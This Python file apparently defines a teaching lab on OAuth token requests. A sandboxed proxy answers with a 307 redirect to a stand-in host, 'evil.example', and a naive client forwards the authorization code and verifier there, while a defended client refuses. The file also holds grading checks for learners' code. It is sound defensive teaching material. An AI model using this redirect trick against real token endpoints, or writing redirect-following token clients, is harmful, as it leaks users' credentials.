"""Lab 7: the token endpoint answers with a redirect, and the client follows."""

from __future__ import annotations

from contextlib import suppress
from functools import partial
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

from entra_oauth.lessons.labs.hostile import HostileServer
from entra_oauth.lessons.labs.lab import Demonstration, lab_from
from entra_oauth.lessons.labs.naive import NaiveClient
from entra_oauth.lessons.labs.rerun import Rerun, fields_of
from entra_oauth.lessons.labs.trials import fresh
from entra_oauth.protocol.messages import FORM, HttpRequest, HttpResponse

if TYPE_CHECKING:
    from collections.abc import Callable

    from entra_oauth.lessons.labs.sandbox import Sandbox
    from entra_oauth.lessons.labs.stage import Stage
    from entra_oauth.lessons.labs.trials import Trials

__all__ = ["LAB"]

_TOKEN = b'{"access_token":"a-token-of-mallorys-choice"}'


def _world(sandbox: Sandbox) -> tuple[HostileServer, str]:
    """An authority behind a proxy that answers each token request with 307."""
    evil = HostileServer(HttpResponse(status=200, body=_TOKEN))
    there = sandbox.host(evil.handle)

    def handle(request: HttpRequest) -> HttpResponse:
        if request.path.endswith("/token"):
            return HttpResponse(status=307, headers=(("Location", f"{there}/token"),))
        return sandbox.tenant.handle(request)

    return evil, sandbox.host(handle)


def attack(sandbox: Sandbox) -> Demonstration:
    """A client that follows, as general HTTP clients do."""
    evil, origin = _world(sandbox)
    authority = sandbox.authority_at(origin)
    client = NaiveClient(
        sandbox.send,
        authority.authorization_endpoint,
        authority.token_endpoint,
        "http://localhost:9",
        verifier="v" * 43,
    )
    client.redeem(sandbox.code_of(sandbox.answer_for(client.authorize_url(), "alice")))
    got = list(evil.forms[0]) if evil.forms else []
    return Demonstration(
        {"code", "code_verifier"} <= set(got),
        (
            "A proxy on the way answers the token request with 307 and another address.",
            "307 means: the same method, the same body, over there.",
            "The client follows, as many HTTP libraries do unasked.",
            f"What the other host got: {', '.join(got)}.",
        ),
        "The attack works: code and verifier together are a token.",
    )


def defence(sandbox: Sandbox) -> Demonstration:
    """Our client at the same authority."""
    evil, origin = _world(sandbox)
    ended = sandbox.sign_in(
        lambda url: sandbox.open(url, "alice"), authority=sandbox.authority_at(origin)
    )
    kind = type(ended.error).__name__
    return Demonstration(
        not evil.forms and kind == "UnexpectedAnswer",
        (
            "The same proxy, the same 307.",
            f"Our client follows nothing. It ends with {kind} (exit code 6).",
            f"What the other host got: {sum(map(len, evil.forms))} parameters.",
        ),
        "Stopped: no answer of the token endpoint is a reason to send a secret elsewhere.",
    )


_OURS = "https://login.example/token"
_ELSEWHERE = ("https://evil.example/token", "http://login.example/token", "/token2", "", _OURS)


def rerun(stage: Stage, function: Callable[..., Any]) -> Rerun:
    """A 307 in the way of the token request that this function sends; then none."""
    evil = HostileServer(HttpResponse(status=200, body=_TOKEN))
    there = stage.host_at("http://evil.example", evil.handle)
    moved = HttpResponse(status=307, headers=(("Location", f"{there}/token"),))
    proxy = stage.host_at("http://proxy.example", lambda request: moved)
    client = stage.client()
    client.verifier = fresh()
    code = dict(fields_of(stage.answer_for(client.authorize_url(), "alice")))["code"]
    passed: list[HttpRequest | HttpResponse] = []

    def send(url: str, body: str) -> tuple[int, str, str]:
        request = HttpRequest(
            method="POST", url=url, headers=(("Content-Type", FORM),), body=body.encode()
        )
        reply = stage.send(request)
        passed.extend((request, reply))
        return reply.status, reply.header("Location") or "", reply.body.decode()

    body = urlencode(client.form(code))
    with suppress(ValueError):
        function(send, f"{proxy}/token", body)
    seen = tuple(passed)
    answer = function(send, stage.authority.token_endpoint, body)
    return Rerun(
        stopped=not evil.forms,
        works="access_token" in answer,
        told=f"Parameters that the other host got: {sum(map(len, evil.forms))}.",
        passed=seen,
    )


def check(trials: Trials, function: Callable[..., Any]) -> None:
    """Whatever the answer says, the body is sent once, unchanged, to the one address."""
    body, answer = f"code={fresh()}", fresh()
    sent: list[tuple[str, str]] = []

    def answers(status: int, location: str) -> Callable[[str, str], tuple[int, str, str]]:
        def send(url: str, form: str) -> tuple[int, str, str]:
            sent.append((url, form))
            return (status, location, answer) if len(sent) == 1 else (200, "", "mallorys")

        return send

    for status in (200, 400, 401, 503):
        sent.clear()
        trials.gives(partial(function, answers(status, ""), _OURS, body), answer, f"A {status}.")
        trials.that(sent == [(_OURS, body)], f"{status}: the body is to be sent once, unchanged.")
    for status in (300, 301, 302, 303, 305, 307, 308, 399):
        for location in _ELSEWHERE:
            sent.clear()
            call = partial(function, answers(status, location), _OURS, body)
            trials.refuses(call, f"A {status} to {location or 'nowhere'}.")
            trials.that(sent == [(_OURS, body)], f"After a {status} something was sent again.")


LAB = lab_from(__name__, off=attack, on=defence, rerun=rerun, check=check)
